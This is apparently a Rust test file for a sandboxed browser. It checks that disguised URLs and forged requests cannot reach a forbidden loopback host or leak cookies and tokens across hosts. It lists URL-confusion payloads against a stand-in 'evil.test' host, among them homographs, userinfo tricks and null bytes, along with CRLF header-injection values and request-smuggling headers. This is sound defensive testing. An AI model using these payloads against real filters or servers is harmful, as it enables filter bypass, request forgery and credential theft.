//! Addresses that look like others, and requests that a page forges: D07 to D11. What was not permitted is not reached, whatever it is
//! called, and nothing of one host is sent to another.

use std::sync::Arc;

use haft_contract::ports::BrowserAction;

use crate::addresses::Names;
use crate::raw::{RawAnswer, RawServer};
use crate::world::World;

const NAMES: &[(&str, &[&[&str]])] = &[
    ("pages.test", &[&["127.0.0.2"]]),
    ("evil.test", &[&["127.0.0.3"]]),
    ("evilpages.test", &[&["127.0.0.3"]]),
    ("pages.test.evil.test", &[&["127.0.0.3"]]),
    ("xn--pges-53d.test", &[&["127.0.0.3"]]),
];

/// Addresses that all lead to the listener that must not be reached, or nowhere.
fn disguised(port: u16) -> Vec<String> {
    let at = |rest: &str| rest.replace("PORT", &port.to_string());
    [
        "http://pages.test@evil.test:PORT/",
        "http://pages.test:80@evil.test:PORT/",
        "http://pages.test%2f@evil.test:PORT/",
        "http://evil.test:PORT#pages.test",
        "http://evil.test:PORT/#@pages.test/",
        "http://evil.test:PORT?@pages.test/",
        "http://evil.test:PORT\\@pages.test/",
        "http:\\\\evil.test:PORT\\",
        "http:/\\evil.test:PORT/",
        "http:evil.test:PORT/",
        " \thttp://evil.test:PORT/",
        "ht\ntp://evil.test:PORT/",
        "http://ev\til.test:PORT/",
        "http://%65vil.test:PORT/",
        "http://EVIL.TEST:PORT/",
        "http://evil.test.:PORT/",
        // A Cyrillic letter, and letters that are written wide.
        "http://p\u{430}ges.test:PORT/",
        "http://\u{ff45}\u{ff56}\u{ff49}\u{ff4c}.test:PORT/",
        "http://127\u{3002}0\u{3002}0\u{3002}3:PORT/",
        "http://\u{2460}\u{2461}\u{2466}.0.0.3:PORT/",
        "http://0x7f.0.0.3:PORT/",
        // D08
        "http://evil.test\0.pages.test:PORT/",
        "http://evil.test%00.pages.test:PORT/",
        "http://evil.test%0d%0a.pages.test:PORT/",
        "http://evil.test%20pages.test:PORT/",
        // D09
        "http://evilpages.test:PORT/",
        "http://pages.test.evil.test:PORT/",
        "http://*:PORT/",
        "http://*.test:PORT/",
    ]
    .map(at)
    .to_vec()
}

/// Tries each address by fetch, picture, frame, WebSocket and link.
fn trying_page(addresses: &[String]) -> String {
    let list = serde_json::json!(addresses);
    format!(
        "<h1 id=out>Trying</h1><script>
        const tries = [], timed = (promise) => Promise.race([promise.catch(() => 0), new Promise((done) => setTimeout(done, 1500))]);
        for (const url of {list}) {{
          tries.push(timed((async () => fetch(url, {{ mode: 'no-cors', method: 'POST', body: 'x' }}))()));
          tries.push(timed(new Promise((done) => {{ const image = new Image(); image.onload = image.onerror = done; image.src = url; }})));
          try {{ tries.push(timed(new Promise((done) => {{ const socket = new WebSocket(url.replace('http', 'ws')); socket.onerror = socket.onopen = done; }}))); }} catch {{}}
          const frame = document.createElement('iframe'); frame.src = url; document.body.append(frame);
          try {{ navigator.sendBeacon(url, 'x'); }} catch {{}}
        }}
        Promise.all(tries).then(() => {{ out.textContent = 'Tried all'; }});
        </script>"
    )
}

pub(crate) async fn disguised_addresses_lead_nowhere() {
    let evil = RawServer::at("127.0.0.3", |_| RawAnswer::page("", "<h1>Evil</h1>")).await;
    let addresses = disguised(evil.port);
    let page = trying_page(&addresses);
    let pages = RawServer::at("127.0.0.2", move |head| {
        if head.contains("GET /try ") { RawAnswer::page("", &page) } else { RawAnswer::page("", "<h1>Good</h1>") }
    })
    .await;
    // The address guard permits loopback to this name alone, and the gate says yes to everything: the guard is what is tested.
    let mut guarded = World::with_rules(Names::of(NAMES), &["pages.test"]);
    Arc::get_mut(&mut guarded.gate).unwrap().permits_all = true;
    // The guard permits both addresses, and the gate one name: the gate is what is tested.
    let mut gated = World::with_rules(Names::of(NAMES), &["127.0.0.2", "127.0.0.3"]);
    Arc::get_mut(&mut gated.gate).unwrap().permitted = vec!["pages.test".into()];
    for world in [guarded, gated] {
        world.open(&format!("http://pages.test:{}/try", pages.port)).await;
        world.wait_for_text("Tried all").await;
        for url in &addresses {
            let outcome = world.perform(BrowserAction::Navigate(url.clone())).await;
            assert!(outcome.is_err(), "{url:?}: {outcome:?}");
        }
        assert_eq!(*evil.heads.lock().unwrap(), Vec::<String>::new(), "it was reached");
        for host in ["PAGES.Test", "pages.test", "%70ages.test"] {
            let reply = world.navigate(&format!("http://{host}:{}/", pages.port)).await;
            assert!(reply.text.contains(&format!("http://pages.test:{}/", pages.port)), "{}", reply.text);
        }
        world.browsers_stop().await;
    }
}

pub(crate) async fn no_request_carries_what_it_should_not() {
    let other = RawServer::at("127.0.0.3", |_| RawAnswer::page("Access-Control-Allow-Origin: *\r\n", "<h1>Other</h1>")).await;
    let away = format!("http://127.0.0.3:{}/away", other.port);
    let (there, script) = (away.clone(), format!(
        "<h1 id=out>Trying</h1><script>
        document.cookie = 'own=secret';
        const quiet = (promise) => promise.catch(() => 0), headers = {{ Authorization: 'Bearer secret' }}, tries = [];
        tries.push(quiet(fetch('/hop?1', {{ headers, credentials: 'include' }})));
        tries.push(quiet(fetch('/forged', {{ headers: {{ Host: 'evil.test', 'Transfer-Encoding': 'chunked', 'Content-Length': '999', Cookie: 'forged=1', Connection: 'Upgrade' }} }})));
        tries.push(quiet(fetch('{away}?preflight', {{ headers: {{ 'X-Forwarded-For': '127.0.0.1', 'X-Forwarded-Host': 'internal' }} }})));
        for (const value of ['a\\r\\nX-Injected: 1', 'a\\nX-Injected: 1', 'a\\0b'])
          try {{ tries.push(quiet(fetch('/header', {{ headers: {{ 'X-Value': value }} }}))); }} catch {{}}
        tries.push(quiet(fetch('/path%0d%0aX-Injected:%201')));
        tries.push(quiet(fetch('/plain\\r\\nX-Injected: 1')));
        Promise.all(tries).then(() => {{ out.textContent = 'Tried all'; }});
        </script>"
    ));
    let pages = RawServer::at("127.0.0.2", move |head| {
        let path = head.split(' ').nth(1).unwrap_or_default();
        match path.rsplit_once("/hop") {
            Some(_) => RawAnswer::redirect(&there, "Set-Cookie: late=secret\r\n"),
            None if path.ends_with("/try") => RawAnswer::page("Set-Cookie: kept=secret; HttpOnly\r\n", &script),
            None => RawAnswer::page("", "<h1>Good</h1>"),
        }
    })
    .await;
    let world = World::new();
    world.open(&format!("http://127.0.0.2:{}/try", pages.port)).await;
    world.wait_for_text("Tried all").await;
    world.navigate(&format!("http://user:secret@127.0.0.2:{}/hop?2", pages.port)).await;
    // D11: what belongs to one host stays with it.
    assert!(pages.with("secret").iter().any(|head| head.contains("/hop?1") && head.contains("Bearer secret")), "{:?}", pages.heads);
    assert!(other.with("/away").len() >= 2, "{:?}", other.heads);
    for word in ["secret", "uthorization", "Cookie"] {
        assert_eq!(other.with(word), Vec::<String>::new(), "{word}");
    }
    // D10: a page forges no header that decides where a request goes or where it ends, and sends others only where they are wanted.
    assert_eq!(pages.with("/forged").len(), 1);
    for word in ["evil.test", "ransfer-", "999", "forged=1", "Upgrade\r\n", "X-Injected: 1\r\n", "X-Injected:%201\r\n"] {
        assert_eq!(pages.with(word), Vec::<String>::new(), "{word:?}");
    }
    for head in pages.heads.lock().unwrap().iter() {
        assert!(head.to_lowercase().contains(&format!("\r\nhost: 127.0.0.2:{}\r\n", pages.port)), "{head}");
    }
    assert_eq!(other.with("X-Forwarded"), Vec::<String>::new());
    assert!(other.with("?preflight").iter().all(|head| head.starts_with("OPTIONS ")), "{:?}", other.heads);
}
